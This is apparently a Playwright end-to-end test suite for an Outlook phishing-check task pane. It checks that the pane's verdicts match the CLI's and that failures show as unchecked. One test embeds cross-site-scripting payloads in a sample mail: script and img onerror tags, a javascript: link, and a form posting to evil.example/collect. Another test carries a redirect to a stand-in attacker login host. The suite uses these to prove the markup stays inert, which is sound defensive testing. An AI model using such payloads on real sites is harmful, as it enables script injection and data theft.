/**
 * End to end: the built task pane (dist/) in Chromium with the REAL office.js and a stand-in
 * Outlook mailbox built from fixture .eml files. Asserts the rendered verdict equals the CLI's
 * (`analyze(fromRawMessage(bytes))` from the core source), that host failures show as skipped or
 * "not checked" instead of safe, and that nothing leaves 127.0.0.1. Screenshots go to
 * /work/main/test-output/outlook/ (gitignored).
 */
import { existsSync, readFileSync } from 'node:fs';
import type { Server } from 'node:http';
import { join } from 'node:path';
import type { BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { analyze, checks, explain, fromOutlookItem, fromRawMessage, listLinks, type Locale, type MessageInput, type MessageLink, type Verdict } from '@ayashii/core';
import { ui } from '../src/i18n.js';
import {
  DIST,
  MISSING_CHROMIUM,
  PKG,
  REPO,
  browserMode,
  launch,
  openPane,
  screenshot,
  serveStatic,
  standInFor,
  waitForRun,
  type OpenPane,
  type StandInFixture,
} from './harness.js';

const INCIDENTS = join(REPO, 'packages/core/test/fixtures/eml/incidents');
const FIXTURES: Record<string, string> = {
  keimeikai: join(INCIDENTS, 'keimeikai-alpha-mail.eml'),
  spoofed: join(INCIDENTS, 'alpha-prm-spoofed.eml'),
  genuine: join(INCIDENTS, 'genuine-alpha-mail.eml'),
  iso2022jp: join(PKG, 'test/fixtures/iso-2022-jp-yamato-redelivery.eml'),
  // windows-1252 with € and curly quotes: Node 20's decoder read it as ISO-8859-1 (the € lost,
  // score 10) while Chromium reads € (score 20); the core repairs Node, and this proves they agree.
  cp1252: join(PKG, 'test/fixtures/windows-1252-prize.eml'),
};
const bytesOf = (name: string) => new Uint8Array(readFileSync(FIXTURES[name] as string));

/** The CLI's verdict for the same bytes. */
const cliVerdict = (bytes: Uint8Array): Verdict => analyze(fromRawMessage(bytes));

/** The input the pane builds on the Mailbox 1.8 path (headers, HTML body, attachments with their content), for its link list. */
const piecesInput = (fx: StandInFixture): MessageInput =>
  fromOutlookItem({
    internetHeaders: fx.headers,
    bodyHtml: fx.bodyHtml,
    attachments: fx.attachments.map((a) => {
      const content = fx.attachmentContent[a.id];
      const d = { name: a.name, contentType: a.contentType, size: a.size, isInline: a.isInline };
      return content ? { ...d, contentBase64: content.content } : d;
    }),
  });

/** What a row should show for a link, written out here rather than taken from src/links.ts. */
function expectedRow(l: MessageLink, locale: Locale) {
  const t = ui[locale].linkShown;
  const shown = l.form ? t.form : l.text !== null ? l.text : l.image ? t.image : l.source === 'attachment' ? t.pdf(l.file ?? '') : l.source === 'text' ? t.bareUrl : t.noText;
  const mark = l.host && l.domain && l.host.toLowerCase().endsWith(l.domain.toLowerCase()) ? l.host.slice(l.host.length - l.domain.length) : null;
  return { shown, host: l.host ?? ui[locale].linkNoHost, mark, via: [...l.via], shortener: l.shortener !== null, title: l.target };
}

const mode = browserMode();

if (mode === 'missing') {
  describe('outlook task pane (browser)', () => {
    it('needs Chromium', () => {
      throw new Error(MISSING_CHROMIUM);
    });
  });
}

describe.skipIf(mode !== 'run')('outlook task pane in Chromium with real office.js', () => {
  let server: Server;
  let base: string;
  let context: BrowserContext;
  let closeBrowser: () => Promise<void>;
  const opened: Page[] = [];

  beforeAll(async () => {
    if (!existsSync(join(DIST, 'taskpane.html')) || !existsSync(join(DIST, 'taskpane.js'))) {
      throw new Error('dist/ is missing: run `npx --yes pnpm@10 --filter @ayashii/outlook-addin build` first');
    }
    ({ server, base } = await serveStatic(DIST));
    ({ context, close: closeBrowser } = await launch());
  }, 60_000);

  afterAll(async () => {
    for (const p of opened) await p.close().catch(() => undefined);
    await closeBrowser?.();
    await new Promise((r) => (server ? server.close(() => r(undefined)) : r(undefined)));
  });

  async function open(fx: StandInFixture): Promise<OpenPane> {
    const pane = await openPane(context, base, fx);
    opened.push(pane.page);
    return pane;
  }

  /** Opens the pane, lets the automatic check finish, then clicks "Check this mail" (again). */
  async function openAndCheck(fx: StandInFixture): Promise<OpenPane> {
    const pane = await open(fx);
    await waitForRun(pane.page, 1);
    await pane.page.locator('#check').click();
    await waitForRun(pane.page, 2);
    return pane;
  }

  async function rendered(page: Page) {
    return page.evaluate(() => {
      const text = (sel: string, root: ParentNode = document) => root.querySelector(sel)?.textContent ?? null;
      return {
        level: document.querySelector('#verdict')?.getAttribute('data-level') ?? null,
        badge: text('#badge'),
        score: text('#score'),
        summary: text('#summary'),
        partial: text('#partial'),
        subject: text('#subject'),
        source: document.querySelector('#result')?.getAttribute('data-source') ?? null,
        lang: document.documentElement.lang,
        findings: [...document.querySelectorAll('#findings > li')].map((li) => ({
          checkId: li.getAttribute('data-check-id'),
          title: text('.finding-title', li),
          detail: text('.finding-detail', li),
          evidence: [...li.querySelectorAll('.evidence dd')].map((dd) => ({
            value: dd.textContent,
            marked: dd.querySelector('mark')?.textContent ?? null,
          })),
        })),
        skippedIds: [...document.querySelectorAll('#skipped li')].flatMap((li) => (li.getAttribute('data-check-ids') ?? '').split(' ').filter(Boolean)),
        skippedText: text('#skipped'),
        skippedOpen: (document.querySelector('#skipped') as HTMLDetailsElement | null)?.open ?? null,
        sources: Object.fromEntries(
          [...document.querySelectorAll('#sources li')].map((li) => [li.getAttribute('data-source'), { status: li.getAttribute('data-status'), detail: text('.source-detail', li) }]),
        ),
        checkButton: text('#check'),
        calls: (window as unknown as { __standInCalls: string[] }).__standInCalls,
        csp: (window as unknown as { __csp: string[] }).__csp,
      };
    });
  }

  async function renderedLinks(page: Page) {
    return page.evaluate(() => {
      const d = document.querySelector('#links') as HTMLDetailsElement | null;
      return {
        present: d !== null,
        open: d?.open ?? null,
        count: d?.getAttribute('data-count') ?? null,
        summary: d?.querySelector('summary')?.textContent ?? null,
        // Anything that could navigate or load: there must be none in the section.
        active: d ? d.querySelectorAll('a, img, script, iframe, form, [href], [src], [onclick], [onerror]').length : null,
        more: document.querySelector('#links-more')?.textContent ?? null,
        // Position among the pane's sections: the list comes right after the findings.
        after: d?.previousElementSibling?.className ?? null,
        rows: [...document.querySelectorAll('#links .link-list > li')].map((li) => ({
          shown: li.querySelector('.link-shown')?.textContent ?? null,
          host: li.querySelector('.link-host')?.textContent ?? null,
          mark: li.querySelector('.link-host mark')?.textContent ?? null,
          via: [...li.querySelectorAll('.link-via-host')].map((v) => v.textContent),
          shortener: li.querySelector('.link-shortener') !== null,
          title: li.querySelector('.link-url')?.getAttribute('title') ?? null,
          url: li.querySelector('.link-url')?.textContent ?? null,
          flag: li.getAttribute('data-flag'),
          flagText: li.querySelector('.link-flag')?.textContent ?? null,
        })),
      };
    });
  }

  /** The section lists exactly `listLinks` of the input the pane analysed, in order, as text. */
  function expectLinks(view: Awaited<ReturnType<typeof renderedLinks>>, links: readonly MessageLink[], locale: Locale) {
    expect(view.present).toBe(true);
    expect(view.count).toBe(String(links.length));
    expect(view.summary).toBe(ui[locale].linksHeading(links.length));
    expect(view.active).toBe(0);
    expect(view.rows.map(({ shown, host, mark, via, shortener, title }) => ({ shown, host, mark, via, shortener, title }))).toEqual(
      links.slice(0, 50).map((l) => expectedRow(l, locale)),
    );
    for (const [i, r] of view.rows.entries()) {
      const target = links[i]?.target ?? '';
      expect(r.url && (r.url === target || (r.url.endsWith('…') && target.startsWith(r.url.slice(0, -1))))).toBe(true);
    }
  }

  /** The pane shows exactly what `explain(cliVerdict)` says: level, score, every finding's text and evidence. */
  function expectParity(view: Awaited<ReturnType<typeof rendered>>, verdict: Verdict, locale: Locale) {
    const ex = explain(verdict, { locale });
    expect(view.level).toBe(verdict.level);
    expect(view.badge).toBe(ex.levelLabel);
    expect(view.summary).toBe(ex.summary);
    expect(view.score).toContain(`${verdict.score}/100`);
    expect(view.findings.map((f) => f.checkId)).toEqual(ex.items.map((i) => i.checkId));
    expect(view.findings.map((f) => [f.title, f.detail])).toEqual(ex.items.map((i) => [i.title, i.detail]));
    expect(view.findings.map((f) => f.evidence)).toEqual(
      ex.items.map((i) =>
        i.evidence.map((e) => {
          const marked = e.highlight && (e.value.includes(e.highlight) || e.value.toLowerCase().includes(e.highlight.toLowerCase())) ? e.highlight : null;
          const at = marked ? (e.value.includes(marked) ? e.value.indexOf(marked) : e.value.toLowerCase().indexOf(marked.toLowerCase())) : -1;
          return { value: e.value, marked: at >= 0 ? e.value.slice(at, at + (marked as string).length) : null };
        }),
      ),
    );
  }

  function expectClean(pane: OpenPane, view: Awaited<ReturnType<typeof rendered>>) {
    expect(pane.external, 'requests that tried to leave 127.0.0.1').toEqual([]);
    expect(pane.pageErrors).toEqual([]);
    expect([...pane.cspViolations, ...view.csp]).toEqual([]);
    // The CDN office.js was requested, and answered from node_modules/@microsoft/office-js.
    expect(pane.officeFiles).toContain('office.js');
  }

  /** `flagged`: the [host, marked domain, via] of the rows a finding points at; every other row is unmarked. */
  const cases: { name: string; fixture: string; lang: string; locale: Locale; expectLevel: string[]; flagged: [string, string, string[]][] }[] = [
    {
      name: 'keimeikai-alpha-mail',
      fixture: 'keimeikai',
      lang: 'ja-JP',
      locale: 'ja',
      expectLevel: ['suspicious', 'dangerous'],
      flagged: [['www.kousya35698900.stbasil.techix.com', 'techix.com', ['url-shield.securrence.com']]],
    },
    {
      name: 'alpha-prm-spoofed',
      fixture: 'spoofed',
      lang: 'ja-JP',
      locale: 'ja',
      expectLevel: ['dangerous'],
      flagged: [['www.kousya35698900.stbasil.techix.com', 'techix.com', ['url-shield.securrence.com']]],
    },
    { name: 'genuine-alpha-mail', fixture: 'genuine', lang: 'en-US', locale: 'en', expectLevel: ['safe'], flagged: [] },
    { name: 'iso-2022-jp-yamato', fixture: 'iso2022jp', lang: 'ja-JP', locale: 'ja', expectLevel: ['suspicious', 'dangerous'], flagged: [] },
    { name: 'windows-1252-prize', fixture: 'cp1252', lang: 'en-US', locale: 'en', expectLevel: ['caution'], flagged: [] },
  ];

  function expectFlags(view: Awaited<ReturnType<typeof renderedLinks>>, flagged: [string, string, string[]][], locale: Locale) {
    const rows = view.rows.filter((r) => r.flag !== null);
    expect(rows.map((r) => [r.host, r.mark, r.via])).toEqual(flagged);
    for (const r of rows) expect(r.flagText).toBe(ui[locale].severity[r.flag as 'danger' | 'warn' | 'info']);
  }

  describe.each(cases)('$name', ({ name, fixture, lang, locale, expectLevel, flagged }) => {
    const bytes = bytesOf(fixture);
    const verdict = cliVerdict(bytes);

    it(`Mailbox 1.14: whole message via getAsFileAsync → the CLI's verdict (${locale})`, async () => {
      expect(expectLevel).toContain(verdict.level);
      const pane = await openAndCheck(standInFor(bytes, { displayLanguage: lang, mailboxVersion: '1.14' }));
      const view = await rendered(pane.page);
      await screenshot(pane.page, `${name}.${locale}`);
      expect(view.lang).toBe(locale);
      expect(view.source).toBe('whole-message');
      expect(view.calls).toContain('getAsFileAsync');
      expect(view.calls).not.toContain('getAllInternetHeadersAsync');
      expect(view.sources['whole-message']?.status).toBe('ok');
      expectParity(view, verdict, locale);
      const links = await renderedLinks(pane.page);
      const expected = listLinks(fromRawMessage(bytes));
      expectLinks(links, expected, locale);
      expect(links.after).toBe('findings');
      expect(links.open).toBe(expected.length >= 1 && expected.length <= 5);
      expectFlags(links, flagged, locale);
      if (name === 'keimeikai-alpha-mail') {
        // The pane's viewport scrolled to the list (the full page is the screenshot above).
        await pane.page.locator('#links').evaluate((d) => d.scrollIntoView({ block: 'end' }));
        await screenshot(pane.page, 'links-ja', { fullPage: false });
      }
      expectClean(pane, view);
    });

    it('Mailbox 1.8 only (no getAsFileAsync): headers + HTML body + attachments → the same verdict', async () => {
      const pane = await openAndCheck(standInFor(bytes, { displayLanguage: lang, mailboxVersion: '1.8' }));
      const view = await rendered(pane.page);
      await screenshot(pane.page, `${name}.${locale}.mailbox-1.8`);
      expect(view.source).toBe('pieces');
      expect(view.calls).not.toContain('getAsFileAsync');
      expect(view.calls).toEqual(expect.arrayContaining(['getAllInternetHeadersAsync', 'body.getAsync:html']));
      expect(view.sources['whole-message']).toEqual({ status: 'unsupported', detail: expect.stringContaining('Mailbox 1.14') });
      expect(view.sources['headers']?.status).toBe('ok');
      expect(view.sources['body']?.status).toBe('ok');
      expectParity(view, verdict, locale);
      const fx = standInFor(bytes, { displayLanguage: lang, mailboxVersion: '1.8' });
      const links = await renderedLinks(pane.page);
      expectLinks(links, listLinks(piecesInput(fx)), locale);
      expectFlags(links, flagged, locale);
      expectClean(pane, view);
    });
  });

  it('the ISO-2022-JP mail reads as Japanese: decoded brand, subject and attachment name', async () => {
    const pane = await openAndCheck(standInFor(bytesOf('iso2022jp'), { displayLanguage: 'ja-JP', mailboxVersion: '1.8' }));
    const view = await rendered(pane.page);
    const all = JSON.stringify(view.findings);
    expect(all).toContain('ヤマト運輸');
    expect(view.subject).toBe('件名【ヤマト運輸】お荷物お届けのお知らせ（ご不在連絡）');
    expect(view.calls).toContain('getAttachmentContentAsync:AAMkAtt0');
    expect(view.sources['attachment-content']?.status).toBe('ok');
    if (view.findings.some((f) => f.checkId?.startsWith('attachment/'))) expect(all).toContain('不在連絡票.html');
    expectClean(pane, view);
  });

  it('getAllInternetHeadersAsync fails (and no 1.14): shown as "not checked", never as safe', async () => {
    const fx = standInFor(bytesOf('genuine'), {
      displayLanguage: 'en-US',
      mailboxVersion: '1.13',
      errors: { headers: { name: 'GenericResponseError', message: 'The request failed. Try again later.', code: 9020 } },
    });
    const pane = await openAndCheck(fx);
    const view = await rendered(pane.page);
    await screenshot(pane.page, 'headers-error.en');
    expect(view.level).toBe('unknown');
    expect(view.level).not.toBe('safe');
    expect(view.badge).toBe('Not checked');
    expect(view.summary).toMatch(/could not be checked/);
    expect(view.sources['headers']).toEqual({ status: 'failed', detail: expect.stringContaining('GenericResponseError (9020)') });
    expect(view.skippedOpen).toBe(true);
    expect(view.skippedText).toContain('GenericResponseError');
    // Every check that needs the headers is listed as skipped.
    const needsHeaders = checks.filter((c) => c.needs.includes('headers')).map((c) => c.id as string);
    expect(view.skippedIds).toEqual(expect.arrayContaining(needsHeaders));
    expect(needsHeaders).toEqual(expect.arrayContaining(['brand-impersonation/display-name-brand', 'sender-authentication/dmarc-fail']));
    expectClean(pane, view);
  });

  it('getAllInternetHeadersAsync fails on a phishing mail: body findings still show, with the gap noted', async () => {
    const fx = standInFor(bytesOf('keimeikai'), {
      displayLanguage: 'ja-JP',
      mailboxVersion: '1.8',
      errors: { headers: { name: 'InternalServerError', message: 'The server could not complete the request.', code: 9017 } },
    });
    const pane = await openAndCheck(fx);
    const view = await rendered(pane.page);
    await screenshot(pane.page, 'headers-error-phish.ja');
    expect(view.level).not.toBe('safe');
    expect(view.summary).toContain('ヘッダーを取得できなかった');
    expect(view.sources['headers']?.status).toBe('failed');
    expect(view.skippedIds).toContain('brand-impersonation/display-name-brand');
    expectClean(pane, view);
  });

  it('getAsFileAsync fails and the body read fails: falls back to the pieces, body checks skipped with the reason', async () => {
    const bytes = bytesOf('spoofed');
    const fx = standInFor(bytes, {
      displayLanguage: 'en-US',
      mailboxVersion: '1.14',
      errors: {
        file: { name: 'ItemNotFound', message: 'The item could not be found.', code: 9055 },
        body: { name: 'GenericResponseError', message: 'Body unavailable.', code: 9020 },
      },
    });
    const pane = await openAndCheck(fx);
    const view = await rendered(pane.page);
    await screenshot(pane.page, 'file-and-body-error.en');
    expect(view.source).toBe('pieces');
    expect(view.sources['whole-message']).toEqual({ status: 'failed', detail: expect.stringContaining('ItemNotFound (9055)') });
    expect(view.sources['body']).toEqual({ status: 'failed', detail: expect.stringContaining('Body unavailable') });
    // Header findings are still the CLI's; findings that need the body are listed as skipped instead.
    const cli = cliVerdict(bytes);
    const needsBody = new Set(checks.filter((c) => c.needs.includes('body')).map((c) => c.id as string));
    const headerOnly = cli.findings.filter((f) => !needsBody.has(f.checkId) && f.evidence.every((e) => e.kind === 'header')).map((f) => f.checkId);
    const bodyChecks = cli.findings.filter((f) => needsBody.has(f.checkId)).map((f) => f.checkId);
    expect(view.findings.map((f) => f.checkId)).toEqual(headerOnly);
    for (const id of bodyChecks) expect(view.skippedIds).toContain(id);
    if (bodyChecks.length) expect(view.partial).toMatch(/not run/);
    expect(view.level).toBe('dangerous');
    // No body, no link list: the section says why instead of "no links".
    const links = await renderedLinks(pane.page);
    expect(links).toMatchObject({ present: true, count: 'unknown', summary: 'Links in this mail', rows: [], active: 0 });
    expect(await pane.page.locator('#links').textContent()).toContain(ui.en.linksBodyMissing);
    expectClean(pane, view);
  });

  it('an attachment that cannot be read is reported, and its content checks are skipped', async () => {
    const bytes = bytesOf('iso2022jp');
    const fx = standInFor(bytes, {
      displayLanguage: 'ja-JP',
      mailboxVersion: '1.8',
      errors: { attachments: { AAMkAtt0: { name: 'AttachmentTypeNotSupported', message: 'The attachment type is not supported.', code: 9043 } } },
    });
    const pane = await openAndCheck(fx);
    const view = await rendered(pane.page);
    await screenshot(pane.page, 'attachment-error.ja');
    expect(view.sources['attachment-content']).toEqual({ status: 'failed', detail: expect.stringContaining('AttachmentTypeNotSupported') });
    expect(view.level).not.toBe('safe');
    expectClean(pane, view);
  });

  it('message text is rendered as text: markup in the display name and subject stays inert', async () => {
    const eml = [
      'Received: from mx.example.net by mx.kousya.jp; Mon, 23 Nov 2026 09:12:00 +0900',
      'Authentication-Results: mx.kousya.jp; spf=pass smtp.mailfrom=example.net; dmarc=none header.from=example.net',
      'From: "<img src=https://evil.example/pixel.png onerror=window.__pwned=1>Amazon.co.jp" <x@example.net>',
      'To: taro@kousya.jp',
      'Subject: <script>window.__pwned=2</script> Your order',
      'Date: Mon, 23 Nov 2026 09:11:58 +0900',
      'Message-ID: <xss@example.net>',
      'Content-Type: text/html; charset=utf-8',
      '',
      '<p><a href="https://evil.example/&quot;&gt;&lt;img src=x onerror=window.__pwned=3&gt;">https://www.amazon.co.jp/</a></p>',
      '<p><a href="javascript:window.__pwned=4">&lt;img src=x onerror=window.__pwned=5&gt;Click</a></p>',
      '<form action="https://evil.example/collect?&lt;script&gt;window.__pwned=6&lt;/script&gt;"><input name="p"></form>',
      '',
    ].join('\r\n');
    const bytes = new TextEncoder().encode(eml);
    const pane = await openAndCheck(standInFor(bytes, { displayLanguage: 'en-US' }));
    const view = await rendered(pane.page);
    await screenshot(pane.page, 'markup-inert.en');
    // The link list: hostile hrefs and anchor text are rows of text, and clicking them does nothing.
    const expected = listLinks(fromRawMessage(bytes));
    expect(expected.map((l) => [l.form, l.host])).toEqual([
      [false, 'evil.example'],
      [false, null],
      [true, 'evil.example'],
    ]);
    const links = await renderedLinks(pane.page);
    expectLinks(links, expected, 'en');
    expect(links.open).toBe(true);
    // The target is the parsed URL (quotes and brackets percent-encoded), shown as text in full in the title.
    expect(links.rows[0]?.title).toBe(expected[0]?.target);
    expect(links.rows[0]?.title).toContain('%3Cimg');
    expect(links.rows[1]?.shown).toBe('<img src=x onerror=window.__pwned=5>Click');
    expect(links.rows[1]?.url).toBe('javascript:window.__pwned=4');
    expect(links.rows[2]?.shown).toBe('form sends to');
    const url = pane.page.url();
    for (const sel of ['.link-url', '.link-shown', '.link-host']) {
      const n = await pane.page.locator(`#links ${sel}`).count();
      for (let i = 0; i < n; i++) await pane.page.locator(`#links ${sel}`).nth(i).click();
    }
    await pane.page.waitForTimeout(200);
    expect(pane.page.url()).toBe(url);
    const injected = await pane.page.evaluate(() => ({
      pwned: (window as unknown as { __pwned?: number }).__pwned ?? null,
      imgs: document.querySelectorAll('#result img, #result script, #result a, #result form').length,
    }));
    expect(injected).toEqual({ pwned: null, imgs: 0 });
    expectParity(view, cliVerdict(bytes), 'en');
    expect(JSON.stringify(view.findings)).toContain('<img src=');
    expectClean(pane, view);
  });

  it('a mail with many links: collapsed, 50 rows, "and N more", shortener and image links labelled', async () => {
    const anchors = [
      '<a href="https://bit.ly/3abcd"><img src="cid:banner" alt=""></a>',
      ...Array.from({ length: 59 }, (_, i) => `<a href="https://www.shop.example/item/${i + 1}">Item ${i + 1}</a>`),
      '<a href="https://nam12.safelinks.protection.outlook.com/?url=http%3A%2F%2Flogin.attacker.example%2F&amp;data=05">Your account</a>',
    ];
    const eml = [
      'Received: from mx.shop.example by mx.kousya.jp; Mon, 23 Nov 2026 09:12:00 +0900',
      'Authentication-Results: mx.kousya.jp; spf=pass smtp.mailfrom=shop.example; dkim=pass header.d=shop.example; dmarc=pass header.from=shop.example',
      'From: Shop <news@shop.example>',
      'To: taro@kousya.jp',
      'Subject: Weekly offers',
      'Date: Mon, 23 Nov 2026 09:11:58 +0900',
      'Message-ID: <many@shop.example>',
      'Content-Type: text/html; charset=utf-8',
      '',
      `<p>${anchors.join('<br>')}</p>`,
      '',
    ].join('\r\n');
    const bytes = new TextEncoder().encode(eml);
    const expected = listLinks(fromRawMessage(bytes));
    expect(expected).toHaveLength(61);
    const pane = await openAndCheck(standInFor(bytes, { displayLanguage: 'en-US' }));
    const links = await renderedLinks(pane.page);
    expect(links.open).toBe(false);
    expectLinks(links, expected, 'en');
    expect(links.rows).toHaveLength(50);
    expect(links.rows[0]).toMatchObject({ shown: 'image link', host: 'bit.ly', shortener: true });
    expect(links.more).toMatch(/^and 11 more/);
    await pane.page.locator('#links > summary').click();
    expect((await renderedLinks(pane.page)).open).toBe(true);
    await screenshot(pane.page, 'links-many.en');
    expectClean(pane, await rendered(pane.page));
  });

  it('a pinned pane re-checks when the user moves to another message (ItemChanged)', async () => {
    const pane = await open(standInFor(bytesOf('genuine'), { displayLanguage: 'ja-JP' }));
    await waitForRun(pane.page, 1);
    expect((await rendered(pane.page)).level).toBe('safe');
    const next = standInFor(bytesOf('spoofed'), { displayLanguage: 'ja-JP' });
    const registered = await pane.page.evaluate((fx) => (window as unknown as { __standInSwitchItem: (f: unknown) => boolean }).__standInSwitchItem(fx), next);
    expect(registered).toBe(true);
    await waitForRun(pane.page, 2);
    const view = await rendered(pane.page);
    expect(view.calls).toContain('addHandlerAsync:olkItemSelectedChanged');
    expectParity(view, cliVerdict(bytesOf('spoofed')), 'ja');
    expectClean(pane, view);
  });

  it('an engine without TextDecoder (old Windows webviews) gets a message, not a dead button', async () => {
    const page = await context.newPage();
    opened.push(page);
    const external: string[] = [];
    await page.route(/^(?!http:\/\/127\.0\.0\.1[:/])[a-z][a-z0-9+.-]*:\/\//i, (r) => (external.push(r.request().url()), r.abort()));
    await page.addInitScript({ content: 'delete window.TextDecoder;' });
    await page.goto(`${base}/taskpane.html`);
    await page.locator('#message').waitFor({ state: 'visible' });
    expect(await page.locator('#message').textContent()).toContain('old browser engine');
    expect(await page.locator('#check').isDisabled()).toBe(true);
    expect(external).toEqual(['https://appsforoffice.microsoft.com/lib/1/hosted/office.js']);
  });

  it('switches between Japanese and English without re-reading the mail', async () => {
    const pane = await openAndCheck(standInFor(bytesOf('spoofed'), { displayLanguage: 'ja-JP' }));
    const calls = (await rendered(pane.page)).calls.length;
    const expected = listLinks(fromRawMessage(bytesOf('spoofed')));
    const jaLinks = await renderedLinks(pane.page);
    expectLinks(jaLinks, expected, 'ja');
    expect(jaLinks.summary).toBe('このメールのリンク（1 件）');
    expect(jaLinks.rows[0]?.flagText).toBe('危険度 高');
    // The reader closes the list; the language switch keeps it closed.
    await pane.page.locator('#links > summary').click();
    await pane.page.waitForFunction(() => !(document.querySelector('#links') as HTMLDetailsElement).open);
    await pane.page.locator('#lang').click();
    const view = await rendered(pane.page);
    await screenshot(pane.page, 'alpha-prm-spoofed.en-switched');
    expect(view.lang).toBe('en');
    expect(view.checkButton).toBe('Check again');
    expectParity(view, cliVerdict(bytesOf('spoofed')), 'en');
    const enLinks = await renderedLinks(pane.page);
    expectLinks(enLinks, expected, 'en');
    expect(enLinks.summary).toBe('Links in this mail (1)');
    expect(enLinks.rows[0]?.flagText).toBe('High risk');
    expect(enLinks.open).toBe(false);
    expect(view.calls.length).toBe(calls);
    expectClean(pane, view);
  });
});
